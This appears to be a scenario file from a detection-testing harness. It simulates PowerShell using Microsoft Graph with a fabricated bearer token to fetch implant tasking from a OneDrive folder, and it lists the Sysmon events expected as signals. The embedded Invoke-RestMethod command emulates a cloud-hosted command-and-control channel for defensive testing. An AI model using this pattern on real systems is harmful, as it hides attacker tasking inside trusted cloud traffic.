/**
 * Seed test 2: PowerShell uses Microsoft Graph to read a file from OneDrive, the way
 * implants that keep their tasking in a OneDrive folder do. Signals: Sysmon 1
 * (`Invoke-RestMethod` and graph.microsoft.com on the command line), Sysmon 22 and Sysmon 3.
 */

import { CONHOST, POWERSHELL, powershellCommand, type Scenario } from './scenario.js';

const BASE64URL = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';

export const onedriveGraph: Scenario = {
  id: 'onedrive-graph',
  title: 'PowerShell reading tasking from OneDrive through Microsoft Graph',
  platform: 'windows',
  origin: 'seed test 2',
  expect: { fileName: 'powershell.exe', host: 'graph.microsoft.com' },
  build(w, fleet, t) {
    const base = fleet.windows.get(fleet.victim)!;
    const token = `eyJ0eXAiOiJKV1QiLCJub25jZSI6${w.rng.token(48, BASE64URL)}`;
    const item = `${w.rng.token(6, 'abcdefghijklmnopqrstuvwxyz')}.txt`;
    const script =
      `$h = @{Authorization = 'Bearer ${token}'}; ` +
      `Invoke-RestMethod -Uri 'https://graph.microsoft.com/v1.0/me/drive/root:/Apps/sync/${item}:/content' -Headers $h -Method Get`;
    const ps = w.spawn(t, base.explorer, POWERSHELL, powershellCommand(script));
    w.spawn(t + 11, ps, CONHOST, `${CONHOST} 0xffffffff -ForceV1`);
    w.reach(t + 720, ps, 'graph.microsoft.com');
  },
};
